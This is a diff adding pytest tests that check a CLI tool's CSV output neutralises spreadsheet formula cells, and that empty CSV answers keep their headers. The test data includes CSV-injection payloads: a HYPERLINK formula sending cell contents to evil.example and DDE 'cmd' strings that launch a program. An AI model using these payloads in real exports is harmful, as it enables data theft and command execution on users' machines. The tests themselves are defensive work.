@@ -15,7 +15,10 @@ import re
 from collections.abc import Callable
 from typing import Any
 
+import pytest
 from click.testing import Result
+
+from khronika.cli.output import neutral
 
 Run = Callable[..., Result]
 STAMP = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d+Z")
@@ -165,3 +168,59 @@ def test_trace_speaks_csv_for_an_entity(demo: Run) -> None:
         "worldcrunch-kz-separatism@para:6; worldcrunch-kz-separatism@para:7",
         "",
     ]
+
+
+# Cells a spreadsheet would run as formulas (OWASP, "CSV Injection")
+FORMULAS = {
+    '=HYPERLINK("https://evil.example/?"&A1,"open")': "'=HYPERLINK(",
+    "=cmd|' /C calc'!A0": "'=cmd|",
+    "+1+cmd|' /C calc'!A0": "'+1+cmd",
+    "-2+3": "'-2+3",
+    "@SUM(A1:A9)": "'@SUM(",
+    "\t=1+1": "'\t=1+1",
+    "\r=1+1": "'\r=1+1",
+    "-0044-03-15": "'-0044-03-15",
+}
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_a_cell_that_would_start_a_formula_gets_a_leading_quote(text: str) -> None:
+    assert neutral(text) == "'" + text
+    assert neutral(text).startswith(FORMULAS[text])
+
+
+@pytest.mark.parametrize("text", ["-5", "+1.5", "-1e3", "2023-05-30", "a=b", ""])
+def test_numbers_and_plain_text_stay_as_they_are(text: str) -> None:
+    assert neutral(text) == text
+
+
+def test_timeline_csv_neutralises_formulas_and_a_year_bc(demo: Run) -> None:
+    summary = '=HYPERLINK("https://evil.example/","open")'
+    fact = {"type": "fact", "id": "a-formula", "kind": "other", "when": "-0044-03-15",
+            "summary": summary, "sources": [{"source": "worldcrunch-kz-separatism",
+                         "locator": "para:1"}]}  # fmt: skip
+    assert demo("append", "-", input=json.dumps(fact)).exit_code == 0
+    (row,) = rows(demo, "timeline", "--search", "HYPERLINK")
+    assert row["summary"] == "'" + summary
+    assert (row["when"], row["earliest"]) == ("'-0044-03-15", "'-0044-03-15")
+
+
+@pytest.mark.parametrize(
+    ("args", "header"),
+    [
+        (["timeline", "--search", "no such words"], "id,kind,when,label,earliest,"
+         "latest,status,place,summary,version,recorded_at,participants,sources"),
+        (["entity", "list", "--search", "no such name"], "id,kind,name,aliases"),
+        (["stats", "--by", "charge", "--as-of", "1900"],
+         "key,certain,possible,terms,median,mean,min,max"),
+        (["stats", "--by", "year", "--as-of", "1900"], "key,certain,possible"),
+        (["stats", "--by", "lag", "--as-of", "1900"], "defendant,act,verdict,days"),
+        (["diff", "--known-at", "2000-01-01", "--known-at", "2000-01-02"],
+         "change,id,kind,from_version,to_version,recorded_at,recorded_by,reason,"
+         "summary"),
+    ],
+)  # fmt: skip
+def test_an_empty_csv_answer_still_has_its_header(
+    demo: Run, args: list[str], header: str
+) -> None:
+    assert out(demo, *args, "--format", "csv") == header + "\n"
